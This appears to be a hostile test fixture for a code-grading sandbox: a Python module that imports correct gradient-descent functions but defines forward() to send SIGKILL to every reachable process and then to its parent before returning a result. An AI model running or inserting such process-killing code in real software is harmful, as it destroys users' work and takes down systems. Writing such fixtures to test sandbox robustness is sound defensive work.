"""Hostile: forward() signals every process it can (kill -1), then its parent, the zygote."""
import os
import signal

from _correct import cost, gradient, gradient_descent, sgd


def forward(x, w):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    return x * w
